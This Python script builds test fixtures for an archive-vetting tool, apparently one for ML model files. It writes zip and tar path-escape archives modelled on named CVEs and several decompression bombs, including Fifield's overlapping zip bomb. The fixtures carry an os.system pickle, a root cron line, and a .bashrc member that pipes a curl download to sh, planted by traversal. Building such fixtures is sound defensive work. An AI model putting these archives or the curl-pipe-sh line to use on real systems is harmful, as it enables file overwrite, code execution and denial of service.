"""Build the archive fixtures in ``tests/assets/archives/`` with Python's own ``zipfile``, ``tarfile``, ``bz2``,
``lzma`` and ``py7zr`` writers (fixture time only).

    python tests/assets/make_archives.py

Path escapes rebuild the published proofs of concept with the real writers: zip-slip ``..`` and absolute
names (Snyk 2018), a zip entry whose Unix mode is a symlink to ``/etc/passwd`` (the CVE-2024-0520 class:
what ``zip -y`` stores and ``unzip`` recreates), tar ``..`` and absolute names (CVE-2007-4559), a tar
symlink to a folder outside followed by a member written through it (CVE-2025-12060, keras ``get_file``),
and a tar hardlink to ``/etc/passwd`` (CVE-2025-4517). Benign twins (links that stay inside) show the
rules do not fire on ordinary archives.

Bombs: a bzip2 stream, an xz-compressed tar and a 7z archive of 256 MiB of zeros, a deflated zip member of
80 MiB of zeros (ratio ~1000, over the default 200 beyond 64 MiB), and David Fifield's overlapping-entry
zip bomb (2019), where 64 central-directory entries share one deflate kernel; no library writes the last
one, so its bytes are assembled here following the paper's "full overlap" construction.
"""

from __future__ import annotations

import bz2
import io
import lzma
import stat
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

OUT = Path(__file__).resolve().parent / "archives"
MiB = 1 << 20
#: A pickle calling os.system: what a slipped file would carry (never loaded here).
PAYLOAD = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."
BENIGN = b"\x80\x04K\x01."


def _zip(path: Path, entries: list[tuple[zipfile.ZipInfo | str, bytes]],
         method: int = zipfile.ZIP_STORED) -> None:
    with zipfile.ZipFile(path, "w", method) as zf:
        for info, data in entries:
            zf.writestr(info, data)


def _symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.create_system = 3  # Unix: the high 16 bits of external_attr are a st_mode, as Info-ZIP writes them
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]], mode: str = "w") -> None:
    with tarfile.open(path, mode) as tf:  # type: ignore[call-overload]
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
            else:
                tf.addfile(info)


def _file(name: str) -> tarfile.TarInfo:
    return tarfile.TarInfo(name)


def _link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def _fifield_overlap(entries: int = 64, kernel_bytes: int = 4 * MiB) -> bytes:
    """Fifield's full-overlap zip bomb: one local header + deflate kernel, every central entry points at it."""
    data = b"\x00" * kernel_bytes
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = co.compress(data) + co.flush()
    crc = zlib.crc32(data)
    name = b"0"
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(kernel), len(data), len(name), 0)
    out = local + name + kernel
    central = b""
    for i in range(entries):
        n = f"{i:04d}".encode()
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(kernel), len(data),
                               len(n), 0, 0, 0, 0, 0, 0) + n
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, len(central), len(out), 0)
    return out + central + eocd


def main() -> None:
    OUT.mkdir(exist_ok=True)
    # ---- path escapes (zip) ------------------------------------------------------------------------
    _zip(OUT / "zip_slip_dotdot.zip", [("model/config.json", b"{}"), ("../../tmp/mlvet_slip.pkl", PAYLOAD)])
    _zip(OUT / "zip_slip_absolute.zip", [(zipfile.ZipInfo("/etc/cron.d/mlvet"), b"* * * * * root id\n")])
    _zip(OUT / "zip_symlink_out.zip", [("model/config.json", b"{}"), (_symlink_info("model/vocab.txt"),
                                                                       b"/etc/passwd")])
    _zip(OUT / "zip_symlink_inside.zip", [("model/v1/vocab.txt", b"a\nb\n"), (_symlink_info("model/vocab.txt"),
                                                                             b"v1/vocab.txt")])
    # A .keras-shaped archive (Keras 3 layout) carrying a slipped member: get_file/unpack tools write it out.
    _zip(OUT / "keras_slip.keras", [
        ("metadata.json", b'{"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}'),
        ("config.json", b'{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": []}}'),
        ("model.weights.h5", b"\x89HDF\r\n\x1a\n"),
        ("../../../.bashrc", b"curl https://example.invalid/x | sh\n"),
    ], zipfile.ZIP_DEFLATED)
    # ---- path escapes (tar) ------------------------------------------------------------------------
    _tar(OUT / "tar_dotdot.tar", [(_file("model/config.json"), b"{}"), (_file("../../tmp/mlvet_slip.sh"),
                                                                        b"id\n")])
    _tar(OUT / "tar_absolute.tar", [(_file("/tmp/mlvet_abs.pkl"), PAYLOAD)])
    _tar(OUT / "tar_symlink_escape.tar", [(_link("model", "../../../../tmp", tarfile.SYMTYPE), None),
                                          (_file("model/mlvet_marker.out"), b"written through the link\n")])
    _tar(OUT / "tar_hardlink_out.tar", [(_link("passwd", "/etc/passwd", tarfile.LNKTYPE), None)])
    _tar(OUT / "tar_links_inside.tar", [(_file("data/v1/file.pkl"), BENIGN),
                                        (_link("data/latest", "v1/file.pkl", tarfile.SYMTYPE), None),
                                        (_link("data/copy.pkl", "data/v1/file.pkl", tarfile.LNKTYPE), None),
                                        (_link("data/v1/up", "../v1", tarfile.SYMTYPE), None)])
    # ---- bombs ------------------------------------------------------------------------------------------
    zeros = b"\x00" * (256 * MiB)
    (OUT / "bomb.bz2").write_bytes(bz2.compress(zeros, 9))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("weights.bin")
        info.size = len(zeros)
        tf.addfile(info, io.BytesIO(zeros))
    (OUT / "bomb.tar.xz").write_bytes(lzma.compress(buf.getvalue(), preset=9))
    del buf
    _zip(OUT / "bomb_ratio.zip", [("data.bin", b"\x00" * (80 * MiB))], zipfile.ZIP_DEFLATED)
    (OUT / "bomb_overlap.zip").write_bytes(_fifield_overlap())
    try:
        import py7zr
    except ImportError:
        print("py7zr not installed: bomb.7z not rebuilt")
    else:
        with py7zr.SevenZipFile(OUT / "bomb.7z", "w") as archive:
            archive.writestr(zeros, "weights.bin")
    for p in sorted(OUT.iterdir()):
        print(f"{p.name}: {p.stat().st_size} bytes")


if __name__ == "__main__":
    main()
